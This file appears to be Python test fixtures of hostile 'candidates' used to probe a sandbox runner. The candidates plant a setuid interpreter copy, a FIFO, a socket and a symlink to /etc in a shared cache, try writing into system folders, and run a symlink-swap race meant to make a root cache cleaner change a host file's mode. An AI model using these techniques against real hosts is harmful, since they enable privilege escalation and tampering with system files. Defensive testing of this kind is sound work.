"""Hostile candidates of the second sandbox pass: they attack the host through what the runner keeps.

Each is a function candidate (`hostile_host.py:NAME`) that writes a valid, empty submission with a
`hostile` report of what it tried and what worked (see tests/candidates/hostile.py).
"""

import hashlib
import json
import os
import shutil
import socket
import sys
import time
from pathlib import Path

CACHE = os.environ.get("MICROCTX_CANDIDATE_CACHE", "")


def _submit(public_path, output_path, report):
    digest = hashlib.sha256(Path(public_path).read_bytes()).hexdigest()
    document = {"schema": "fak-microcontext-submission/1", "corpus_sha256": digest, "answers": [], "aggregates": None}
    Path(output_path).write_text(json.dumps({**document, "hostile": report}))


def _try(report, name, action):
    try:
        action()
        report[name] = "done"
    except OSError as exc:
        report[name] = f"refused: {exc.strerror}"


def litter_cache(public_path, output_path, *, devkit_path=None, params=None):
    """Leave a setuid copy of the interpreter, a FIFO, a socket, a link to /etc and a 3,000-deep tree in the cache."""
    cache, report = Path(CACHE), {"uid": os.getuid()}

    def setuid_copy():
        shutil.copyfile(sys.executable, cache / "python-suid")
        os.chmod(cache / "python-suid", 0o4755)

    def deep_tree():
        fd = os.open(cache, os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        os.close(fd)

    def bind_socket():
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(cache / "sock"))

    _try(report, "setuid", setuid_copy)
    _try(report, "fifo", lambda: os.mkfifo(cache / "fifo"))
    _try(report, "socket", bind_socket)
    _try(report, "symlink", lambda: os.symlink("/etc", cache / "etc-link"))
    _try(report, "deep", deep_tree)
    (cache / "kept.txt").write_text("an ordinary cache entry")
    _submit(public_path, output_path, report)


def write_root(public_path, output_path, *, devkit_path=None, params=None):
    """Try to write the sandbox's own root and its top-level folders."""
    report = {"uid": os.getuid()}
    for path in ("/planted", "/usr/planted", "/opt/planted", "/home/planted", "/etc/planted"):
        _try(report, path, lambda p=path: Path(p).write_text("x"))
    _try(report, "/candidate/planted", lambda: Path("/candidate/planted").write_text("x"))
    _try(report, "/tmp/planted", lambda: Path("/tmp/planted").write_text("x"))
    _submit(public_path, output_path, report)


def race_cache_cleaning(public_path, output_path, *, devkit_path=None, params=None):
    """Race another run's cache cleaning (a sweep's runs share the cache folder and run side by
    side): fill the cache with set-id files, and once the cleaner has listed them and started
    clearing their bits, swap every file it has not reached yet for a link to a host file (the
    `victim` it was told about), in the order the cleaner walks them, from the far end. A cleaner
    that clears the bits by name follows the link and changes the host file's mode as root."""
    params = params or {}
    cache, count = Path(CACHE), int(params.get("count", 15000))
    for n in range(count):
        fd = os.open(cache / f"s{n}", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.fchmod(fd, 0o4777)
        os.close(fd)
    names = [e.name for e in os.scandir(cache) if e.name.startswith("s")]  # the cleaner's order: the same listing
    (cache / "racer-ready").write_text("ready")
    report = {"files": len(names), "swapped": 0, "started": False}
    deadline = time.monotonic() + float(params.get("wait", 120))
    while time.monotonic() < deadline:  # the cleaner clears the first listed file's bit: its loop has begun
        if not os.lstat(cache / names[0]).st_mode & 0o4000:
            report["started"] = True
            break
    if report["started"]:
        for name in reversed(names):
            path = cache / name
            try:
                if not os.lstat(path).st_mode & 0o4000:
                    break  # the cleaner got here first: the rest is behind it
                os.symlink(params["victim"], cache / "swap")
                os.rename(cache / "swap", path)
                report["swapped"] += 1
            except OSError:
                break
    _submit(public_path, output_path, report)
